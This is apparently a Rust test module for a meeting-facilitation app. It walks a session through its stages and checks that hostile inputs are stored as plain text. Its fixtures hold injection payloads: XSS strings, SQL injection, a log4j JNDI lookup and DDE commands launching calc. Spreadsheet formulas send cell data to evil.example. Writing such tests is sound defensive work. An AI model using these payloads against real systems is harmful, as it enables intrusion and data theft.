//! The path every test takes to its stage: the main session brought forward as the
//! whole catalogue once brought it, accepting on the way the hostile but valid
//! inputs of the stages before (each checked again). Refused inputs change nothing,
//! so they are left to their own tests.

use crate::harness::*;
use serde_json::json;
use summit_shared::limits::TIMER_MAX_SECONDS;

/// How far the main session has come, in the catalogue's order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Stage {
    /// Just created, with Ann and Bob.
    Created,
    /// Hostile but valid names have joined.
    Joined,
    /// Valid commands and an idempotency key have been sent.
    Commanded,
    /// In Problems, with Ann's, Bob's and an unpicked problem (hostile but valid texts).
    Problems,
    /// In Pick.
    Pick,
    /// Ann supports her problem; Ann's and Bob's are picked.
    Picked,
    /// In Ideas, with ideas a, b and c (hostile but valid texts).
    Ideas,
    /// In Vote: Ann has spent 4 of her 5 dots, 3 on idea a (the cap) and 1 on b.
    Vote,
    /// Ann has spent her whole budget.
    BudgetSpent,
    /// In Plan, tallies revealed.
    Plan,
    /// Hostile but valid action items exist.
    Planned,
    /// Closed.
    Closed,
}

/// The ids the stages create.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Ids {
    pub ann_problem: u64,
    pub bob_problem: u64,
    pub unpicked: u64,
    pub idea_a: u64,
    pub idea_b: u64,
    pub idea_c: u64,
}

impl Harness {
    /// Brings the main session forward to `stage` (see the module docs).
    pub(crate) async fn advance_to(&mut self, stage: Stage) -> Ids {
        let fac = self.cx.fac.clone();
        let ann = self.cx.ann.clone();
        while self.stage < stage {
            let next = match self.stage {
                Stage::Created => {
                    let cases = accepted_joins(&self.cx);
                    self.accept_all(cases).await;
                    Stage::Joined
                }
                Stage::Joined => {
                    let cases = accepted_commands(&self.cx);
                    self.accept_all(cases).await;
                    self.idempotent_replay(&fac).await;
                    Stage::Commanded
                }
                Stage::Commanded => {
                    self.phase("problems").await;
                    let cases = accepted_problems(&self.cx);
                    let bodies = self.accept_all(cases).await;
                    self.ids.ann_problem = id_of(&bodies[0], "problem_submitted", "problem");
                    self.ids.bob_problem = id_of(&bodies[1], "problem_submitted", "problem");
                    self.ids.unpicked = id_of(&bodies[2], "problem_submitted", "problem");
                    Stage::Problems
                }
                Stage::Problems => {
                    self.phase("pick").await;
                    Stage::Pick
                }
                Stage::Pick => {
                    let problem = self.ids.ann_problem;
                    self.setup(
                        &ann,
                        json!({"type": "support_problem", "problem": problem, "support": true}),
                    )
                    .await;
                    for problem in [self.ids.ann_problem, self.ids.bob_problem] {
                        self.setup(
                            &fac,
                            json!({"type": "confirm_pick", "problem": problem, "picked": true}),
                        )
                        .await;
                    }
                    Stage::Picked
                }
                Stage::Picked => {
                    self.phase("ideas").await;
                    let cases =
                        accepted_ideas(&self.cx, self.ids.ann_problem, self.ids.bob_problem);
                    let bodies = self.accept_all(cases).await;
                    self.ids.idea_a = id_of(&bodies[0], "idea_submitted", "idea");
                    self.ids.idea_b = id_of(&bodies[1], "idea_submitted", "idea");
                    self.ids.idea_c = id_of(&bodies[2], "idea_submitted", "idea");
                    Stage::Ideas
                }
                Stage::Ideas => {
                    self.phase("vote").await;
                    let (a, b) = (self.ids.idea_a, self.ids.idea_b);
                    for idea in [a, a, a, b] {
                        self.setup(&ann, json!({"type": "cast_vote", "idea": idea}))
                            .await;
                    }
                    Stage::Vote
                }
                Stage::Vote => {
                    let b = self.ids.idea_b;
                    self.setup(&ann, json!({"type": "cast_vote", "idea": b}))
                        .await;
                    Stage::BudgetSpent
                }
                Stage::BudgetSpent => {
                    self.phase("plan").await;
                    Stage::Plan
                }
                Stage::Plan => {
                    let cases = accepted_actions(&self.cx, self.ids.ann_problem, self.ids.idea_a);
                    self.accept_all(cases).await;
                    Stage::Planned
                }
                Stage::Planned | Stage::Closed => {
                    self.phase("closed").await;
                    Stage::Closed
                }
            };
            self.stage = next;
        }
        self.ids
    }

    /// A retried idempotency key answers with the first result, even when the body
    /// now says something else: nothing runs twice.
    async fn idempotent_replay(&mut self, fac: &str) {
        self.setup(fac, json!({"type": "clear_timer"})).await;
        let first = self
            .send(
                &Case::post("idempotency: first", self.cx.commands())
                    .bearer(fac)
                    .json(json!({"command": {"type": "start_timer", "seconds": 60},
                                 "idempotency_key": "replay-1"})),
            )
            .await;
        assert_eq!(first.status, 200);
        self.accept(Accepted::new(
            Case::post(
                "idempotency: key replayed with another command",
                self.cx.commands(),
            )
            .bearer(fac)
            .json(
                json!({"command": {"type": "set_phase", "phase": "problems"},
                             "idempotency_key": "replay-1"}),
            ),
            200,
            Stored::Nothing,
            "unchanged",
        ))
        .await;
    }
}

pub(crate) fn accepted_joins(cx: &Ctx) -> Vec<Accepted> {
    let join = |what: &str, name: &str| {
        Case::post(format!("join: {what}"), cx.participants())
            .json(json!({"name": name, "department": SERVICE}))
    };
    vec![
        Accepted::new(
            join(
                "name exactly at the limit in 4-byte characters",
                &four_byte(NAME_MAX),
            ),
            201,
            Stored::ParticipantName,
            four_byte(NAME_MAX),
        ),
        Accepted::new(
            join("HTML as a name", "<b onmouseover=alert(1)>Eve</b>"),
            201,
            Stored::ParticipantName,
            "<b onmouseover=alert(1)>Eve</b>",
        ),
        Accepted::new(
            join(
                "decomposed (NFD) name is stored composed (NFC)",
                "Jose\u{301}",
            ),
            201,
            Stored::ParticipantName,
            "Jos\u{e9}",
        ),
        Accepted::new(
            join(
                "RTL override and zero-width space are stripped",
                "\u{202E}evE\u{200B}",
            ),
            201,
            Stored::ParticipantName,
            "evE",
        ),
        Accepted::new(
            join("ANSI escape loses its ESC", "\u{1b}[31mRed"),
            201,
            Stored::ParticipantName,
            "[31mRed",
        ),
    ]
}

pub(crate) fn accepted_commands(cx: &Ctx) -> Vec<Accepted> {
    let keyed = |what: &str, key: &str| {
        Case::post(format!("command: idempotency key {what}"), cx.commands())
            .bearer(&cx.fac)
            .json(json!({"command": {"type": "clear_timer"}, "idempotency_key": key}))
    };
    vec![
        Accepted::new(
            keyed("of exactly 100 characters", &"k".repeat(100)),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            keyed("that looks like SQL", "';DROP/**/TABLE/**/events;--"),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            Case::post("command: unknown top-level field is ignored", cx.commands())
                .bearer(&cx.fac)
                .json(json!({"command": {"type": "clear_timer"}, "actor": "facilitator", "admin": true})),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            Case::post("command: JSON content type with charset and +json suffix", cx.commands())
                .bearer(&cx.fac)
                .raw(
                    Some("application/vnd.summit+json; charset=utf-8"),
                    r#"{"command":{"type":"clear_timer"}}"#,
                ),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            Case::get(
                "preview: loosely typed real code",
                format!("/api/join/%20{}-%20", cx.code.to_lowercase()),
            ),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            cx.cmd(
                "command: timer exactly at the maximum",
                &cx.fac,
                json!({"type": "start_timer", "seconds": TIMER_MAX_SECONDS}),
            ),
            200,
            Stored::Timer,
            TIMER_MAX_SECONDS.to_string(),
        ),
    ]
}

/// Problem texts that are valid and must be stored as text; the first of each
/// department is picked later and ends up in the CSV export.
pub(crate) const FORMULA_PROBLEM: &str =
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
pub(crate) const DDE_PROBLEM: &str = "-2+3+cmd|' /C calc'!A0";

pub(crate) fn accepted_problems(cx: &Ctx) -> Vec<Accepted> {
    let submit = |what: &str, token: &str, text: &str| {
        cx.cmd(
            format!("problem: {what}"),
            token,
            json!({"type": "submit_problem", "text": text}),
        )
    };
    let same = |what: &str, token: &str, text: &str| {
        Accepted::new(submit(what, token, text), 200, Stored::ProblemText, text)
    };
    vec![
        same("spreadsheet formula", &cx.ann, FORMULA_PROBLEM),
        same("DDE payload", &cx.bob, DDE_PROBLEM),
        same(
            "script tag",
            &cx.ann,
            "<script>alert(document.cookie)</script>",
        ),
        same("SQL", &cx.ann, "'; DROP TABLE events; --"),
        same(
            "image with onerror",
            &cx.bob,
            "<img src=x onerror=alert(1)>",
        ),
        same(
            "markdown link and image",
            &cx.bob,
            "[click](javascript:alert(1)) ![](http://evil.example/pixel.png)",
        ),
        same(
            "template and log4j syntax",
            &cx.bob,
            "{{7*7}} ${jndi:ldap://evil.example/a}",
        ),
        Accepted::new(
            submit(
                "decomposed (NFD) look-alike is stored composed (NFC)",
                &cx.bob,
                "Cafe\u{301} menus confuse customers",
            ),
            200,
            Stored::ProblemText,
            "Caf\u{e9} menus confuse customers",
        ),
        same(
            "precomposed (NFC) twin kept as sent",
            &cx.bob,
            "Caf\u{e9} menus confuse customers",
        ),
        same(
            "exactly at the limit in 4-byte characters",
            &cx.ann,
            &four_byte(TEXT_MAX),
        ),
        Accepted::new(
            submit(
                "at the limit once invisibles are removed",
                &cx.ann,
                &format!("\u{FEFF}{}\u{200B} ", music(TEXT_MAX)),
            ),
            200,
            Stored::ProblemText,
            music(TEXT_MAX),
        ),
        Accepted::new(
            submit(
                "controls removed, newline kept",
                &cx.ann,
                "  spaced\u{0}\u{7} out\r\nline two\t ",
            ),
            200,
            Stored::ProblemText,
            "spaced out\nline two",
        ),
        Accepted::new(
            submit("RTL override removed", &cx.ann, "\u{202E}gnp.exe"),
            200,
            Stored::ProblemText,
            "gnp.exe",
        ),
    ]
}

pub(crate) const FORMULA_IDEA: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

pub(crate) fn accepted_ideas(cx: &Ctx, ann_problem: u64, bob_problem: u64) -> Vec<Accepted> {
    let idea = |what: &str, token: &str, problem: u64, text: &str| {
        Accepted::new(
            cx.cmd(
                format!("idea: {what}"),
                token,
                json!({"type": "submit_idea", "problem": problem, "text": text}),
            ),
            200,
            Stored::IdeaText,
            text,
        )
    };
    vec![
        idea("formula", &cx.bob, ann_problem, FORMULA_IDEA),
        idea("SVG onload", &cx.ann, bob_problem, "<svg onload=alert(1)>"),
        idea(
            "exactly at the limit in 4-byte characters",
            &cx.bob,
            ann_problem,
            &music(TEXT_MAX),
        ),
    ]
}

pub(crate) const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")";
pub(crate) const FORMULA_OWNER: &str = "@admin";
pub(crate) const FORMULA_DEPARTMENT: &str = "+Service";

pub(crate) fn accepted_actions(cx: &Ctx, problem: u64, idea: u64) -> Vec<Accepted> {
    let create = |what: &str, title: &str, owner: &str| {
        cx.cmd(
            format!("action: {what}"),
            &cx.fac,
            json!({"type": "create_action", "action": {
                "title": title, "problem": problem, "idea": idea, "owner": owner,
                "department": SERVICE, "due": "2999-12-31"}}),
        )
    };
    vec![
        Accepted::new(
            create("formula title", FORMULA_TITLE, FORMULA_OWNER),
            200,
            Stored::ActionTitle,
            FORMULA_TITLE,
        ),
        Accepted::new(
            create("formula owner", "Call back", FORMULA_OWNER),
            200,
            Stored::ActionOwner,
            FORMULA_OWNER,
        ),
        Accepted::new(
            create("title exactly at the limit in 4-byte characters", &four_byte(TITLE_MAX), "Ann"),
            200,
            Stored::ActionTitle,
            four_byte(TITLE_MAX),
        ),
        Accepted::new(
            create("owner exactly at the limit in 4-byte characters", "Owner", &music(OWNER_MAX)),
            200,
            Stored::ActionOwner,
            music(OWNER_MAX),
        ),
        Accepted::new(
            cx.cmd(
                "rename: department to a formula",
                &cx.fac,
                json!({"type": "rename_department", "department": SERVICE, "name": FORMULA_DEPARTMENT}),
            ),
            200,
            Stored::Department(SERVICE),
            FORMULA_DEPARTMENT,
        ),
        Accepted::new(
            cx.cmd(
                "rename: department name at the limit in 4-byte characters",
                &cx.fac,
                json!({"type": "rename_department", "department": MARKETING,
                       "name": music(DEPARTMENT_NAME_MAX)}),
            ),
            200,
            Stored::Department(MARKETING),
            music(DEPARTMENT_NAME_MAX),
        ),
    ]
}
